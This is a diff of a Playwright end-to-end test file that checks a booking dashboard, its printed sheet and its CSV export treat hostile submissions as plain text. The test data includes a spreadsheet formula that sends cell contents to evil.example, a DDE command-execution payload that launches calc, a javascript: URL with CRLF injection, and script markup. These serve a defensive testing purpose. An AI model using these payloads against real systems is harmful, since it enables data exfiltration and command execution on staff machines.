@@ -1,10 +1,10 @@
 import { readFile } from "node:fs/promises";
 import type { Page } from "@playwright/test";
 import papa from "papaparse";
-import { LOCAL_PUBLISHABLE_KEY } from "../../src/lib/supabase/local-publishable-key.ts";
-import { deskRows } from "../support/desk.ts";
+import { deskRows, findAtDesk, openSheet, storeRequest } from "../support/desk.ts";
 import { storeQuote } from "../support/quotes.ts";
-import { expect, test } from "../support/test.ts";
+import { e2eRun } from "../support/run.ts";
+import { backend, expect, test } from "../support/test.ts";
 
 // What somebody sends past the website, waiting for staff to look at it: markup, scripts, formulas and
 // addresses that are commands. It must be read as what it is, in the dashboard, on the printed sheet, in the
@@ -15,16 +15,6 @@ const FORMULA = `=HYPERLINK("http://evil.example?"&A1)`;
 const PLACE = `javascript:window.hacked=1//&destination=evil?q=%0d%0a <b>Houston</b>`;
 const LINES = `Description: ${MARKUP}\n=1+1\n+1 (900) 555-0100\n@SUM(A1)\n-2\n{{constructor}}`;
 
-/** Sends as a script would, past the forms. */
-async function sendPastTheForms(baseURL: string, row: object) {
-  const answer = await fetch(`${baseURL}/rest/v1/quote_submissions`, {
-    method: "POST",
-    headers: { apikey: LOCAL_PUBLISHABLE_KEY, "content-type": "application/json" },
-    body: JSON.stringify(row),
-  });
-  expect(answer.status).toBe(201);
-}
-
 /** Nothing ran, nothing was loaded from elsewhere, and no element came out of the payload. */
 async function expectInert(page: Page, foreign: string[]) {
   expect(await page.evaluate(() => Reflect.has(window, "hacked"))).toBe(false);
@@ -33,12 +23,11 @@ async function expectInert(page: Page, foreign: string[]) {
 }
 
 /** Requests that leave the site. */
-function watchForeignRequests(page: Page, baseURL: string): string[] {
+function watchForeignRequests(page: Page): string[] {
   const foreign: string[] = [];
   page.on("request", (request) => {
     const { origin, protocol } = new URL(request.url());
-    if (protocol.startsWith("http") && origin !== new URL(baseURL).origin)
-      foreign.push(request.url());
+    if (protocol.startsWith("http") && origin !== e2eRun().origin) foreign.push(request.url());
   });
   page.on("dialog", (dialog) => {
     foreign.push(`dialog: ${dialog.message()}`);
@@ -47,20 +36,17 @@ function watchForeignRequests(page: Page, baseURL: string): string[] {
   return foreign;
 }
 
-test("a hostile request is read as text, and its links lead where they say", async ({
+test("a hostile request is read as text, its links lead where they say", async ({
   page,
   admin,
-  backend,
-  baseURL: origin,
 }) => {
-  const baseURL = origin ?? "";
-  const foreign = watchForeignRequests(page, baseURL);
+  const foreign = watchForeignRequests(page);
   const word = backend.uniqueWord().slice(0, 20);
   const phone = backend.uniquePhone();
   const name = `${word} ${MARKUP}`.slice(0, 100);
-  await sendPastTheForms(baseURL, {
+  await storeRequest(page, {
     name,
-    email: `a&b=c?d/${word}@example.com`.replaceAll(/[&=?/]/g, "+"),
+    email: `a+b+c+d+${word}@example.com`,
     phone,
     contact_method: "phone",
     contact_value: phone,
@@ -71,15 +57,10 @@ test("a hostile request is read as text, and its links lead where they say", asy
     additional_info: LINES,
   });
   await admin.signIn(page);
-  await page.getByRole("searchbox").fill(word);
+  await findAtDesk(page, word);
   const row = deskRows(page);
-  await expect(row).toHaveCount(1);
   await expect(row).toContainText(name);
-  await row
-    .getByRole("button", { name: /^Details/ })
-    .or(row.locator("[data-desk-action=open]"))
-    .first()
-    .click();
+  await row.locator("[data-desk-action=open]").first().click();
   for (const line of LINES.split("\n")) await expect(row).toContainText(line);
   await expectInert(page, foreign);
 
@@ -103,14 +84,12 @@ test("a hostile request is read as text, and its links lead where they say", asy
 
 test("a hostile quote stays text on its card, on the printed sheet and in the CSV", {
   tag: "@long",
-}, async ({ page, admin, backend, baseURL: origin }) => {
-  const baseURL = origin ?? "";
-  const foreign = watchForeignRequests(page, baseURL);
+}, async ({ page, admin }) => {
+  const foreign = watchForeignRequests(page);
   const word = backend.uniqueWord().slice(0, 20);
   const name = `${FORMULA} ${word}`;
-  await storeQuote(baseURL, {
+  await storeQuote({
     name,
-    email: backend.uniqueEmail(),
     event_address: PLACE,
     quote_amount: 900,
     quote_notes: `${MARKUP}\n=cmd|' /C calc'!A0`,
@@ -118,9 +97,8 @@ test("a hostile quote stays text on its card, on the printed sheet and in the CS
   });
   await admin.signIn(page);
   await page.getByRole("tab", { name: "Processed quotes" }).click();
-  await page.getByRole("searchbox").fill(word);
+  await findAtDesk(page, word);
   const card = deskRows(page);
-  await expect(card).toHaveCount(1);
   await card.locator("[data-desk-action=open]").first().click();
   await expect(card).toContainText(MARKUP);
   await expectInert(page, foreign);
@@ -135,9 +113,7 @@ test("a hostile quote stays text on its card, on the printed sheet and in the CS
   expect(cells).toContain(`'${name}`);
   for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
 
-  const opening = page.context().waitForEvent("page");
-  await card.getByRole("link", { name: "Print" }).click();
-  const sheet = await opening;
+  const sheet = await openSheet(card);
   await expect(sheet.getByRole("main")).toContainText(MARKUP);
   await expect(sheet.getByRole("main")).toContainText(name);
   await expectInert(sheet, foreign);
